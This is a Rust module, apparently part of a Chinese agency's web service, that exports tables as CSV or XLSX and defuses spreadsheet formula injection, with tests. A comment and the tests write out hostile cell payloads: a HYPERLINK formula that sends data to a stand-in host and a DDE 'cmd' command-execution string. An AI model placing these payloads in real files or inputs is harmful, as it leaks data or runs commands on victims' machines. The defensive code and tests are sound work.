//! Tables bound for a spreadsheet, as CSV or XLSX from one description ([`Table`]), and text
//! for a spreadsheet made safe: cells that would start a formula are defused.
//!
//! An XLSX cell written as a string is text whatever it starts with (a formula is another
//! kind of cell), so only CSV needs [`cell`]; the XLSX keeps the name exactly as entered.
//!
//! Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (and, after a
//! leading tab or carriage return, the same) as a formula, so a target or task named
//! `=HYPERLINK("http://evil.example/?x="&A1,"点击")` would leak or run something on the
//! agency's machine when it opens an export. Such a cell gets a leading apostrophe, which the
//! spreadsheet shows as text and hides (OWASP's advice for CSV injection). The full-width
//! forms (＝ ＋ － ＠) are treated alike, since input methods produce them and some spreadsheet
//! versions normalise them.

use std::borrow::Cow;

use axum::http::header;
use axum::response::{IntoResponse, Response};

use crate::error::{Error, Result};

/// One cell of a [`Table`].
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text, shown as entered.
    Text(String),
    /// A number, which a spreadsheet can sum.
    Number(f64),
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n as f64)
    }
}

impl From<usize> for Cell {
    fn from(n: usize) -> Self {
        Cell::Number(n as f64)
    }
}

/// A sheet of an export: a header row of Chinese column names, then the rows.
#[derive(Debug, Clone)]
pub struct Table {
    /// The worksheet's name (at most 31 characters; no `[]:*?/\`).
    pub sheet: String,
    /// The header row.
    pub header: Vec<String>,
    /// The rows, each as long as the header.
    pub rows: Vec<Vec<Cell>>,
}

/// The two forms an export comes in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// UTF-8 CSV with a byte-order mark (so Excel and WPS read it as UTF-8).
    Csv,
    /// An Excel workbook.
    Xlsx,
}

impl Format {
    /// The file name extension.
    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }

    fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
}

/// The display width of `text` in a spreadsheet's character units: CJK and full-width
/// characters take two.
fn display_width(text: &str) -> usize {
    text.lines()
        .map(|line| {
            line.chars()
                .map(|c| if (c as u32) >= 0x1100 { 2 } else { 1 })
                .sum::<usize>()
        })
        .max()
        .unwrap_or(0)
}

impl Table {
    /// The table as UTF-8 CSV with a byte-order mark; text cells defused by [`cell`].
    pub fn to_csv(&self) -> Result<Vec<u8>> {
        let csv_err = |e: csv::Error| Error::Internal(format!("writing CSV: {e}"));
        let mut out = "\u{feff}".as_bytes().to_vec();
        {
            let mut w = csv::Writer::from_writer(&mut out);
            w.write_record(&self.header).map_err(csv_err)?;
            for row in &self.rows {
                let line: Vec<Cow<'_, str>> = row
                    .iter()
                    .map(|c| match c {
                        Cell::Text(t) => cell(t),
                        Cell::Number(n) => Cow::Owned(n.to_string()),
                    })
                    .collect();
                w.write_record(line.iter().map(|c| c.as_ref()))
                    .map_err(csv_err)?;
            }
            w.flush()?;
        }
        Ok(out)
    }

    /// The table as an XLSX workbook of one sheet: a bold header row frozen in place with a
    /// filter, columns as wide as their widest cell (within reason), text as text.
    pub fn to_xlsx(&self) -> Result<Vec<u8>> {
        use rust_xlsxwriter::{Format as Style, Workbook};
        let xlsx_err =
            |e: rust_xlsxwriter::XlsxError| Error::Internal(format!("writing XLSX: {e}"));
        let mut workbook = Workbook::new();
        let sheet = workbook.add_worksheet();
        sheet.set_name(&self.sheet).map_err(xlsx_err)?;
        let bold = Style::new().set_bold();
        let wrap = Style::new().set_text_wrap();
        let mut widths: Vec<usize> = self.header.iter().map(|h| display_width(h)).collect();
        for (col, title) in self.header.iter().enumerate() {
            sheet
                .write_string_with_format(0, col as u16, title, &bold)
                .map_err(xlsx_err)?;
        }
        for (r, row) in self.rows.iter().enumerate() {
            let r = (r + 1) as u32;
            for (col, value) in row.iter().enumerate() {
                let c = col as u16;
                match value {
                    Cell::Text(t) if t.contains('\n') => {
                        sheet.write_string_with_format(r, c, t, &wrap)
                    }
                    Cell::Text(t) => sheet.write_string(r, c, t),
                    Cell::Number(n) => sheet.write_number(r, c, *n),
                }
                .map_err(xlsx_err)?;
                let width = match value {
                    Cell::Text(t) => display_width(t),
                    Cell::Number(n) => n.to_string().len(),
                };
                if let Some(w) = widths.get_mut(col) {
                    *w = (*w).max(width);
                }
            }
        }
        for (col, width) in widths.iter().enumerate() {
            sheet
                .set_column_width(col as u16, (*width).clamp(6, 60) as f64 + 2.0)
                .map_err(xlsx_err)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(xlsx_err)?;
        if !self.header.is_empty() {
            let last_row = self.rows.len() as u32;
            sheet
                .autofilter(0, 0, last_row, (self.header.len() - 1) as u16)
                .map_err(xlsx_err)?;
        }
        workbook.save_to_buffer().map_err(xlsx_err)
    }

    /// The table as a download named `stem` with the format's extension.
    pub fn download(&self, format: Format, stem: &str) -> Result<Response> {
        let bytes = match format {
            Format::Csv => self.to_csv()?,
            Format::Xlsx => self.to_xlsx()?,
        };
        Ok((
            [
                (header::CONTENT_TYPE, format.content_type().to_owned()),
                (
                    header::CONTENT_DISPOSITION,
                    format!("attachment; filename=\"{stem}.{}\"", format.extension()),
                ),
            ],
            bytes,
        )
            .into_response())
    }
}

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// `text` as a cell that no spreadsheet takes for a formula.
pub fn cell(text: &str) -> Cow<'_, str> {
    let first = text
        .trim_start_matches(['\t', '\r', '\n', ' '])
        .chars()
        .next();
    let starts_formula =
        first.is_some_and(|c| FORMULA_STARTS.contains(&c)) || text.starts_with(['\t', '\r']);
    if starts_formula {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::{Cell, Table, cell};

    #[test]
    fn an_empty_table_is_still_a_workbook_and_a_csv_with_its_header() {
        let table = Table {
            sheet: "公示期限".into(),
            header: vec!["状态".into(), "期限".into()],
            rows: Vec::new(),
        };
        let xlsx = table.to_xlsx().unwrap();
        assert_eq!(&xlsx[..2], b"PK", "a zip");
        let csv = String::from_utf8(table.to_csv().unwrap()).unwrap();
        assert_eq!(csv, "\u{feff}状态,期限\n");
        let one = Table {
            rows: vec![vec![Cell::from("=1+1"), Cell::from(3i64)]],
            ..table
        };
        let csv = String::from_utf8(one.to_csv().unwrap()).unwrap();
        assert!(csv.ends_with("'=1+1,3\n"), "{csv:?}");
    }

    #[test]
    fn formula_starts_get_an_apostrophe_and_plain_text_is_kept() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1+1)",
            "  =1+1",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ] {
            assert_eq!(cell(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in [
            "杭州某某餐饮有限公司",
            "91330100MA2B000001",
            "2026-11-20",
            "12.50%",
            "",
        ] {
            assert_eq!(cell(plain), plain);
        }
    }
}
